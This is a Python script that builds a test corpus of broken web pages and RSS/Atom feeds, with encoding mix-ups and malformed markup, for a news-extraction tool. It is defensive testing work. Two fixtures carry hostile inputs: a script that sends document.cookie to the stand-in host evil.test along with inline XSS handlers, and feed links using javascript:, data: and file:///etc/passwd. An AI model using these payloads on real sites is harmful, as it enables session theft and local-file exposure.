"""Write tests/hostile/corpus/: broken feeds and pages in the styles found in the wild.

Every sentence is ours (fictional towns: Lorn, Osk, Tarrow). Run from the repo root:

    python tests/hostile/make_corpus.py

and commit the output; test_corpus_is_reproducible checks the committed files match. Very large
pages (100,000 links, 5,000-deep nesting) are built at test time instead of being committed.
Each file's expectations are in corpus/expected.json.
"""

from __future__ import annotations

import codecs
import json
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).resolve().parent / "corpus"

P1 = "The harbour authority in Lorn said the estuary ferry would run again from Thursday."
P2 = "Engineers replaced two mooring posts, and about 400 commuters a day are expected back."
P3 = "Residents of the north bank had faced a 40-minute detour by road for eleven days."


def page(title: str, body: str, head: str = '<meta charset="utf-8">') -> str:
    return (
        f"<!DOCTYPE html><html><head>{head}<title>{title}</title></head><body>"
        f"<nav><a href='/'>Home</a> <a href='/news'>News</a></nav>"
        f"<article><h1>{title}</h1>{body}</article>"
        f"<footer>Copyright The Lorn Gazette</footer></body></html>"
    )


def paras(*texts: str) -> str:
    return "".join(f"<p>{t}</p>" for t in texts)


FR_TITLE = "Le café du port de Lorn rouvre après la tempête"
FR_TEXT = (
    "Le propriétaire du café, Jérôme Müller, a déclaré que les réparations avaient coûté "
    "près de 12 000 euros et que la terrasse serait prête à Pâques."
)
RU_TITLE = "Паводок в долине Лорн"
RU_TEXT = (
    "Власти вымышленного города Лорн сообщили, что из-за паводка эвакуированы 120 жителей "
    "прибрежных улиц. Спасатели продолжают работу на северном берегу реки, а временные пункты "
    "размещения открыты в двух школах."
)


def pages() -> dict[str, tuple[bytes, dict[str, Any]]]:
    """name -> (bytes, expectations). Expectations: ``contains`` / ``not_contains`` (substrings
    of the extracted text), ``binary`` (skipped as binary), ``empty`` (no article: skipped as
    empty or extraction yields under 20 characters)."""
    full = page("Ferry service resumes in Lorn", paras(P1, P2, P3)).encode()
    out: dict[str, tuple[bytes, dict[str, Any]]] = {
        "truncated.html": (full[: full.index(P3.encode()) + 30], {"contains": [P1, P2]}),
        "truncated-in-tag.html": (
            full[: full.index(b"<p>", full.index(P2.encode())) + 2],
            {"contains": [P1]},
        ),
        "unclosed-soup.html": (
            (
                "<html><head><title>Osk bridge closed</title><body><div class=x><article><h1>Osk bridge "
                f"closed<p>{P1}<p>{P2}<div><span>{P3}<table><tr><td>stray cell"
            ).encode(),
            {"contains": [P1]},
        ),
        "bad-attributes.html": (
            page(
                "Tarrow council vote",
                f'<p class="a b onclick=\'x\'>{P1}</p><p id="">{P2}</p><img src="x.jpg alt="">',
            ).encode(),
            {"contains": [P2]},
        ),
        "nul-bytes.html": (
            page("Lorn ferry", paras(P1, P2.replace("mooring", "moor\x00ing"), P3)).encode(),
            {"contains": [P1]},
        ),
        "binary.html": (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 40,
            {"binary": True},
        ),
        "pdf-as-html.html": (
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n" * 50,
            {"binary": True},
        ),
        "empty.html": (b"", {"empty": True}),
        "whitespace.html": (b"  \n\t\n  " * 100, {"empty": True}),
        "no-text.html": (
            (
                b"<html><head><title></title><script>var a = 1;</script></head><body>"
                b"<nav><a href='/a'>A</a><a href='/b'>B</a></nav><script>track()</script></body></html>"
            ),
            {"empty": True},
        ),
        "cp1251-undeclared.html": (
            page(RU_TITLE, paras(RU_TEXT, RU_TEXT), head="").encode("cp1251"),
            {"contains": ["эвакуированы 120 жителей"], "encoding": "cp1251"},
        ),
        "cp1251-declared-utf8.html": (
            page(RU_TITLE, paras(RU_TEXT, RU_TEXT)).encode("cp1251"),
            {"contains": ["эвакуированы 120 жителей"], "encoding": "cp1251"},
        ),
        "cp1251-meta.html": (
            page(RU_TITLE, paras(RU_TEXT, RU_TEXT), head='<meta charset="windows-1251">').encode(
                "cp1251"
            ),
            {"contains": ["эвакуированы 120 жителей"], "encoding": "cp1251"},
        ),
        "latin1-meta.html": (
            page(
                FR_TITLE,
                paras(FR_TEXT, FR_TEXT),
                head='<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">',
            ).encode("latin-1"),
            {"contains": ["Jérôme Müller", "Pâques"]},
        ),
        "latin1-undeclared.html": (
            page(FR_TITLE, paras(FR_TEXT, FR_TEXT), head="").encode("latin-1"),
            {"contains": ["Jérôme Müller", "après la tempête"]},
        ),
        "utf16le-bom.html": (
            codecs.BOM_UTF16_LE + page(FR_TITLE, paras(FR_TEXT, P1), head="").encode("utf-16-le"),
            {"contains": ["Jérôme Müller", P1]},
        ),
        "utf16be-bom.html": (
            codecs.BOM_UTF16_BE + page(RU_TITLE, paras(RU_TEXT, P1), head="").encode("utf-16-be"),
            {"contains": ["эвакуированы 120 жителей"]},
        ),
        "utf16le-no-bom.html": (
            page(FR_TITLE, paras(FR_TEXT, P1), head="").encode("utf-16-le"),
            {"contains": ["Jérôme Müller"]},
        ),
        "utf8-bom-latin1-meta.html": (
            codecs.BOM_UTF8
            + page(FR_TITLE, paras(FR_TEXT, P2), head='<meta charset="iso-8859-1">').encode(),
            {"contains": ["Jérôme Müller"]},
        ),
        "hostile-title.html": (
            page(
                "Lorn &lt;script&gt;alert('x')&lt;/script&gt; ferry",
                paras(P1, "<b onmouseover=alert(1)>bold</b> " + P2, P3)
                + "<script>document.location='http://evil.test/'+document.cookie</script>",
            ).encode(),
            {"contains": [P1], "not_contains": ["document.cookie"]},
        ),
    }
    return out


def rss(items: str, *, decl: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    return (
        f'{decl}<rss version="2.0"><channel><title>Lorn Gazette</title>'
        f"<link>https://lorn-gazette.test/</link>{items}</channel></rss>"
    )


def item(title: str, link: str, date: str = "Tue, 03 Mar 2026 10:00:00 +0000") -> str:
    return f"<item><title>{title}</title><link>{link}</link><pubDate>{date}</pubDate></item>"


BASE = "https://lorn-gazette.test/feed.xml"


def feeds() -> dict[str, tuple[bytes, dict[str, Any]]]:
    """name -> (bytes, expectations: ``urls`` in order, optional ``titles``, ``dates`` (ISO or
    null), or ``error``: the exception class name)."""
    a, b, c = (f"https://lorn-gazette.test/news/{s}.html" for s in ("ferry", "bridge", "school"))
    ok3 = item("Ferry back", a) + item("Bridge shut", b) + item("School open", c)
    full = rss(ok3)
    out: dict[str, tuple[bytes, dict[str, Any]]] = {
        "rss-truncated.xml": (full[: full.index("School open") - 20].encode(), {"urls": [a, b]}),
        "rss-html-entities.xml": (
            rss(
                item("Caf&eacute; reopens&nbsp;&mdash; Lorn", a) + item("Bridge&hellip;", b)
            ).encode(),
            {"urls": [a, b], "titles": ["Café reopens — Lorn", "Bridge…"]},
        ),
        "rss-bare-ampersand.xml": (
            rss(
                item("Fish & chips stall closes", a + "?ref=rss&utm_source=x") + item("B", b)
            ).encode(),
            {
                "urls": [a + "?ref=rss&utm_source=x", b],
                "titles": ["Fish & chips stall closes", "B"],
            },
        ),
        "rss-cdata.xml": (
            rss(item("<![CDATA[Osk <b>council</b> & mayor]]>", a)).encode(),
            {"urls": [a], "titles": ["Osk <b>council</b> & mayor"]},
        ),
        "rss-relative-links.xml": (
            rss(item("Rel", "/news/ferry.html") + item("Rel2", "news/bridge.html")).encode(),
            {"urls": [a, b]},
        ),
        "rss-guid-only.xml": (
            rss(
                '<item><title>G</title><guid isPermaLink="true">' + a + "</guid></item>"
                '<item><title>H</title><guid isPermaLink="false">tag:lorn,2026:2</guid></item>'
            ).encode(),
            {"urls": [a]},
        ),
        "rss-dangerous-links.xml": (
            rss(
                item("JS", "javascript:alert(document.cookie)")
                + item("Data", "data:text/html,<script>alert(1)</script>")
                + item("Local", "file:///etc/passwd")
                + item("Ok", a)
            ).encode(),
            {"urls": [a]},
        ),
        "rss-bad-dates.xml": (
            rss(
                item("A", a, "yesterday") + item("B", b, "2026-13-45") + item("C", c, "2026-03-05")
            ).encode(),
            {"urls": [a, b, c], "dates": [None, None, "2026-03-05T00:00:00+00:00"]},
        ),
        "rss-junk-after-root.xml": (
            (full + "<div>ad banner</div>\x00\x01garbage").encode(),
            {"urls": [a, b, c]},
        ),
        "rss-bom-and-blank-line.xml": (
            codecs.BOM_UTF8 + ("\n\n" + full).encode(),
            {"urls": [a, b, c]},
        ),
        "rss-duplicates.xml": (
            rss(item("A", a) + item("A again", a) + item("B", b)).encode(),
            {"urls": [a, b]},
        ),
        "rss-cp1251.xml": (
            rss(
                item(RU_TITLE, a),
                decl='<?xml version="1.0" encoding="windows-1251"?>',
            ).encode("cp1251"),
            {"urls": [a], "titles": [RU_TITLE]},
        ),
        "rss-utf16-bom.xml": (
            codecs.BOM_UTF16_LE
            + rss(item(FR_TITLE, a), decl='<?xml version="1.0" encoding="utf-16"?>').encode(
                "utf-16-le"
            ),
            {"urls": [a], "titles": [FR_TITLE]},
        ),
        "rss1-rdf.xml": (
            (
                '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
                'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
                '<channel rdf:about="https://lorn-gazette.test/"><title>Lorn</title></channel>'
                f'<item rdf:about="{a}"><title>Ferry</title><link>{a}</link>'
                "<dc:date>2026-03-03T10:00:00Z</dc:date></item>"
                f'<item rdf:about="{b}"><title>Bridge</title></item></rdf:RDF>'
            ).encode(),
            {"urls": [a, b], "dates": ["2026-03-03T10:00:00+00:00", None]},
        ),
        "atom-no-namespace.xml": (
            (
                "<feed><title>Osk Today</title>"
                f'<entry><title>Ferry</title><link href="{a}"/><updated>2026-03-03T10:00:00+01:00</updated></entry>'
                f'<entry><title>Bridge</title><link rel="self" href="https://x.test/self"/><link href="{b}" rel="alternate"/></entry>'
                "</feed>"
            ).encode(),
            {"urls": [a, b], "dates": ["2026-03-03T09:00:00+00:00", None]},
        ),
        "atom-wrong-namespace.xml": (
            (
                '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom/">'
                f'<entry><title type="html">Ferry &amp;lt;back&amp;gt;</title><link href="{a}"/></entry></feed>'
            ).encode(),
            {"urls": [a], "titles": ["Ferry &lt;back&gt;"]},
        ),
        "atom-prefixed-xml-base.xml": (
            (
                b'<a:feed xmlns:a="http://www.w3.org/2005/Atom">'
                b'<a:entry xml:base="https://lorn-gazette.test/news/"><a:title>Ferry</a:title>'
                b'<a:link href="ferry.html"/><a:published>2026-03-03T10:00:00Z</a:published></a:entry></a:feed>'
            ),
            {"urls": [a]},
        ),
        "html-instead-of-feed.xml": (
            page("Feed moved", "<p>Our feed has moved.</p>").encode(),
            {"error": "BrokenXML"},
        ),
        "empty.xml": (b"", {"error": "BrokenXML"}),
        "binary.xml": (bytes(range(256)) * 8, {"error": "BrokenXML"}),
    }
    return out


def build() -> dict[str, bytes]:
    """Every corpus file (relative path -> bytes), expected.json included."""
    files: dict[str, bytes] = {}
    expected: dict[str, dict[str, Any]] = {}
    for group, items in (("pages", pages()), ("feeds", feeds())):
        for name, (data, exp) in items.items():
            files[f"{group}/{name}"] = data
            expected[f"{group}/{name}"] = exp
    files["expected.json"] = (json.dumps(expected, indent=1, ensure_ascii=False) + "\n").encode()
    return files


def main() -> None:
    for rel, data in build().items():
        path = CORPUS / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(f"wrote {len(build())} files under {CORPUS}")


if __name__ == "__main__":
    main()
